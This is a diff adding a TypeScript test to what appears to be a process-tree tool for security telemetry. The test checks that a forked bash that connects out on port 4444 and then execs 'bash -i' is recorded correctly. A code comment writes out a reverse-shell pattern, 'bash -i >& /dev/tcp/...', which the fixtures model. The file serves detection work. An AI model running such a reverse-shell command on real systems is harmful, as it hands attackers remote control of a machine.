@@ -207,6 +207,39 @@ describe('fork without exec', () => {
       [[1011, 'fork-only', [4444]]],
     );
   });
+  test('the exec that follows ends the fork, which keeps the connection it made', async () => {
+    // bash -c 'bash -i >& /dev/tcp/...': the fork connects, then execs bash -i in its pid.
+    const db = scratch.db('fork-then-exec.db');
+    const forked = proc(1012, 1012n, '/bin/bash', {
+      flags: 'execve',
+      parent_exec_id: bash.exec_id!,
+    });
+    const interactive = proc(1012, 1013n, '/bin/bash', {
+      arguments: '-i',
+      parent_exec_id: bash.exec_id!,
+    });
+    const other = proc(1014, 1014n, '/bin/bash', {
+      flags: 'execve',
+      parent_exec_id: bash.exec_id!,
+    });
+    await importEvents(db, [
+      exec(bash, sshd),
+      kprobe(forked, bash, at(31)),
+      kprobe(other, bash, at(31)),
+      exec(interactive, bash, at(32)),
+    ]);
+    const tree = await treeOf(db, bash.exec_id!);
+    const byExecId = new Map(tree.children.map((c) => [c.exec_id, c]));
+    const fork = byExecId.get(forked.exec_id!)!;
+    assert.equal(fork.relation, 'fork-only');
+    assert.deepEqual(fork.exit, { time: at(32) }, 'replaced by the exec, when it happened');
+    assert.deepEqual(
+      fork.network.map((e) => e.dport),
+      [4444],
+    );
+    assert.equal(byExecId.get(interactive.exec_id!)!.exit, undefined, 'bash -i runs on');
+    assert.equal(byExecId.get(other.exec_id!)!.exit, undefined, 'another pid is left alone');
+  });
 });
 
 describe('procFS processes', () => {
